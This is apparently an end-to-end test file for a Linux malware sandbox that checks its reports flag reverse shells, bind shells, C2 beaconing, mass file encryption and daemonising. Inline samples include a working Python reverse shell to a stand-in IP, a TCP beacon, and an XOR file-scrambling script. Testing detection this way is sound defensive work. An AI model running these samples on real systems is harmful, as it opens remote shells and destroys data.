import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { fixtureSource } from '../fixtures/tracer-harness.js';
import { allCalls, assertCuckooShape, assertReverseShell, signatureNames, type ReportView as EvasionReportView } from '../helpers/evasion-samples.js';
import { reportOf, submitSample } from '../helpers/sample-through-api.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

/**
 * Issue 10 end to end with each tracer (nestbox's monitor, and the strace fallback): C samples
 * (test/fixtures) submitted through the API run on the Linux machine against the task network's fake
 * internet, and the report names their system calls in Cuckoo's shape: apistats by syscall name, calls
 * with arguments, payloads as text, and the signatures the decoded calls make possible.
 */

type CallView = NonNullable<EvasionReportView['signatures'][number]['marks'][number]['call']>;
interface ReportView extends EvasionReportView {
  signatures: Array<{ name: string; severity: number; marks: Array<{ type: string; call?: CallView; ioc?: string; description?: string }> }>;
  network: { http: Array<{ uri: string; method: string; count: number; 'user-agent': string }> };
  info: { tracer?: string; score: number };
}

/** A script is run by the package its type picks; a binary by the generic one. */
function submit(server: TestServer, name: string, content: Buffer, timeout: string, args = ''): Promise<number> {
  return submitSample(server, name, content, { timeout, ...(name.endsWith('.py') ? {} : { package: 'generic' }), ...(args ? { options: `arguments=${args}` } : {}) });
}

async function analyse(server: TestServer, name: string, content: Buffer, timeout: string, args = ''): Promise<ReportView> {
  return reportOf(server, await submit(server, name, content, timeout, args));
}

const run = promisify(execFile);

/** The host pid of the sample process named `comm`, once it runs. */
async function pidOf(comm: string): Promise<number> {
  const deadline = Date.now() + 120_000;
  for (;;) {
    for (const entry of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      try {
        if (readFileSync(`/proc/${entry}/comm`, 'utf8').trim() === comm) return Number(entry);
      } catch {
        // The process ended while the folder was read.
      }
    }
    assert.ok(Date.now() < deadline, `no process ${comm} started`);
    await sleep(200);
  }
}

/**
 * Connects to a port of a running sample as a client on the task network would: from the task's gateway
 * namespace (found from the sample's own network namespace) to the machine's address. Returns what the
 * sample sent back until it closed the connection.
 */
async function connectToSample(comm: string, port: number): Promise<string> {
  const pid = await pidOf(comm);
  const machineNetns = (await run('ip', ['netns', 'identify', String(pid)])).stdout.trim();
  assert.match(machineNetns, /^nestbox-net-/, `the sample runs in a task network namespace (${machineNetns})`);
  const addresses = (await run('ip', ['-n', machineNetns, '-4', '-o', 'addr', 'show', 'scope', 'global'])).stdout;
  const guest = /inet (\d+\.\d+\.\d+\.\d+)\//.exec(addresses)?.[1];
  assert.ok(guest, addresses);
  const client = `
    const [host, port] = process.argv.slice(1);
    const attempt = (left) => {
      let answer = '';
      const socket = require('node:net').connect(Number(port), host);
      socket.on('data', (chunk) => (answer += chunk)).on('end', () => process.stdout.write(answer));
      socket.on('error', (error) => (left > 0 && error.code === 'ECONNREFUSED' ? setTimeout(() => attempt(left - 1), 300) : process.exit(1)));
    };
    attempt(100);`;
  const { stdout } = await run('ip', ['netns', 'exec', `${machineNetns}-gw`, process.execPath, '-e', client, guest, String(port)], { timeout: 60_000 });
  return stdout;
}

for (const tracer of ['ebpf', 'strace'] as const) describe(`end to end: system calls in the report (Linux machine, ${tracer === 'ebpf' ? "nestbox's monitor" : 'strace fallback'})`, { timeout: 900_000 }, () => {
  let server: TestServer;
  let build: string;
  const binary = (name: string) => readFileSync(join(build, name));

  before(async () => {
    build = mkdtempSync(join(tmpdir(), 'nestbox-e2e-syscalls-'));
    for (const name of ['reverse-shell', 'bind-shell', 'http-beacon', 'daemon', 'json-line-client', 'monitor-openat-count']) {
      execFileSync('gcc', ['-static', '-O1', '-o', join(build, name), fixtureSource(`${name}.c`)]);
    }
    server = await startTestServer({ machines: [{ name: 'linux-syscalls', settings: { tracer: tracer === 'ebpf' ? 'auto' : 'strace' } }] }, { engine: true, pollMs: 200 });
  });
  after(async () => {
    await server?.close();
    rmSync(build, { recursive: true, force: true });
  });

  it('shows a reverse shell: the socket dup2ed onto stdin, stdout and stderr, then sh -c id', async () => {
    const report = await analyse(server, 'reverse-shell', binary('reverse-shell'), '20');
    assertCuckooShape(report, tracer);
    assertReverseShell(report);
    assert.ok(!signatureNames(report).includes('bind_shell'), signatureNames(report).join(','));
    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
  });

  it('shows a Python reverse shell: os.dup2 of the socket onto stdio in the interpreter, then a shell on a pty', async () => {
    const script = [
      'import os, pty, socket',
      "s = socket.create_connection(('203.0.113.45', 4444))",
      'for fd in (0, 1, 2):',
      '    os.dup2(s.fileno(), fd)',
      "pty.spawn(['/bin/sh', '-c', 'id'])",
      '',
    ].join('\n');
    const report = await analyse(server, 'rs.py', Buffer.from(script), '20');
    assertCuckooShape(report, tracer);
    const shell = report.signatures.find((signature) => signature.name === 'reverse_shell');
    assert.ok(shell, signatureNames(report).join(','));
    const marked = shell.marks.map((mark) => mark.call?.api);
    assert.ok(marked.includes('connect') && marked.includes('dup2'), marked.join(','));
    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
  });

  it('shows a bind shell: a client on the task network connects, the accepted socket is dup2ed onto stdio, then sh -c id', async () => {
    const name = `bindsh-${randomBytes(3).toString('hex')}`;
    const id = await submit(server, name, binary('bind-shell'), '30');
    const answer = await connectToSample(name, 4444);
    assert.match(answer, /^uid=\d+/, 'the client got the output of id');
    const report: ReportView = await reportOf(server, id);
    assertCuckooShape(report, tracer);
    const names = signatureNames(report);
    assert.ok(names.includes('bind_shell'), names.join(','));
    assert.ok(!names.includes('reverse_shell'), names.join(','));
    const marked = report.signatures.find((signature) => signature.name === 'bind_shell')!.marks.map((mark) => mark.call?.api);
    for (const api of ['listen', 'dup2', 'execve']) assert.ok(marked.includes(api), `${api} in ${marked.join(',')}`);
    assert.ok(marked.some((api) => api === 'accept' || api === 'accept4'), marked.join(','));
    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
  });

  it('shows HTTP beaconing: the same POST with its own User-Agent every two seconds', async () => {
    const report = await analyse(server, 'http-beacon', binary('http-beacon'), '30');
    assertCuckooShape(report, tracer);
    const beacon = report.signatures.find((signature) => signature.name === 'http_beaconing');
    assert.ok(beacon, signatureNames(report).join(','));
    const ioc = beacon.marks.find((mark) => mark.type === 'ioc');
    assert.equal(ioc?.ioc, 'http://c2.nestbox.test/gate.php');
    assert.match(ioc?.description ?? '', /^5 POST requests, one every 2\.\d s .*User-Agent "nbbot\/2\.1"/);
    assert.ok(!signatureNames(report).includes('c2_beaconing'), 'the raw-TCP beacon signature leaves HTTP to http_beaconing');
    const request = report.network.http.find((entry) => entry.uri === 'http://c2.nestbox.test/gate.php');
    assert.deepEqual(request && [request.method, request.count, request['user-agent']], ['POST', 5, 'nbbot/2.1']);
    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
  });

  it('shows raw TCP beaconing: a line of its own protocol to the same port every 1.5 s, and no HTTP beacon', async () => {
    const script = [
      'import socket, time',
      'for round in range(5):',
      '    if round:',
      '        time.sleep(1.5)',
      "    with socket.create_connection(('198.51.100.77', 7777), timeout=3) as s:",
      "        s.sendall(b'HELLO bot42 ready\\n')",
      '',
    ].join('\n');
    const report = await analyse(server, 'beacon.py', Buffer.from(script), '20');
    const names = signatureNames(report);
    assert.ok(names.includes('c2_beaconing'), names.join(','));
    assert.ok(!names.includes('http_beaconing'), names.join(','));
  });

  it('shows in-place encryption: fifteen files each read and written back scrambled', async () => {
    const script = [
      'import os',
      "os.makedirs('/tmp/victim', exist_ok=True)",
      'for n in range(15):',
      "    open(f'/tmp/victim/doc{n}.txt', 'w').write(f'quarterly report {n}\\n' * 200)",
      'for n in range(15):',
      "    path = f'/tmp/victim/doc{n}.txt'",
      "    data = open(path, 'rb').read()",
      "    open(path, 'wb').write(bytes(byte ^ ((index * 131 + 7) & 0xff) for index, byte in enumerate(data)))",
      '',
    ].join('\n');
    const report = await analyse(server, 'locker.py', Buffer.from(script), '20');
    const names = signatureNames(report);
    assert.ok(names.includes('mass_file_modification'), names.join(','));
    assert.ok(report.info.score >= 5, `score ${report.info.score}`);
  });

  it('shows a daemon: fork, setsid, fork again, and its long wait', async () => {
    const report = await analyse(server, 'daemon', binary('daemon'), '12');
    assertCuckooShape(report, tracer);
    const setsid = allCalls(report).filter(({ call }) => call.api === 'setsid');
    assert.equal(setsid.length, 1);
    assert.deepEqual([setsid[0]!.call.category, setsid[0]!.call.status, setsid[0]!.call.arguments], ['process', true, {}]);
    assert.equal(report.behavior.apistats[String(setsid[0]!.process.pid)]?.setsid, 1);
    assert.ok(report.behavior.processes.length >= 3, 'the parent, the session leader and the daemon');
    assert.ok(report.behavior.summary.file_created?.includes('/tmp/daemon-ran'));
    const alarm = allCalls(report).find(({ call }) => call.api === 'alarm');
    assert.deepEqual(alarm && [alarm.call.category, alarm.call.arguments.seconds], ['synchronisation', 3600]);
    const names = signatureNames(report);
    assert.ok(names.includes('daemonize'), names.join(','));
    assert.ok(names.includes('long_sleep'), names.join(','));
  });

  it('shows the bytes a client sends over raw TCP, as text', async () => {
    const report = await analyse(server, 'json-line-client', binary('json-line-client'), '20');
    assertCuckooShape(report, tracer);
    const sends = allCalls(report).filter(({ call }) => call.api === 'sendto');
    assert.equal(sends.length, 1);
    const send = sends[0]!.call;
    assert.equal(send.category, 'network');
    assert.equal(send.arguments.buffer, '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"nestbox-wallet-42","agent":"nb/1.0"}}\\n');
    assert.deepEqual([send.arguments.address, send.arguments.port], ['198.51.100.77', 3333]);
    assert.equal(send.return_value, 98);
    const recv = allCalls(report).find(({ call }) => call.api === 'recvfrom');
    assert.ok(recv, 'the receive is recorded');
    assert.equal(report.behavior.apistats[String(sends[0]!.process.pid)]?.sendto, 1);
    assert.ok(signatureNames(report).includes('raw_tcp_protocol'), signatureNames(report).join(','));
  });

  it('counts every call of a process exactly, decoded or not', { skip: tracer === 'strace' && 'strace counts only the calls it traces' }, async () => {
    const report = await analyse(server, 'opener', binary('monitor-openat-count'), '60', '200000 /etc/hostname');
    assertCuckooShape(report, tracer);
    const opener = report.behavior.processes.find((process) => process.command_line.includes('200000'))!;
    assert.ok(opener, report.behavior.processes.map((process) => process.command_line).join(' | '));
    assert.equal(report.behavior.apistats[String(opener.pid)]?.openat, 200_000);
    // The sample's first process is recorded from its exec, which is its own first call.
    assert.equal(report.behavior.apistats[String(opener.pid)]?.execve, 1);
    // close is never decoded into calls[], but is counted all the same.
    assert.equal(report.behavior.apistats[String(opener.pid)]?.close, 200_000);
  });
});
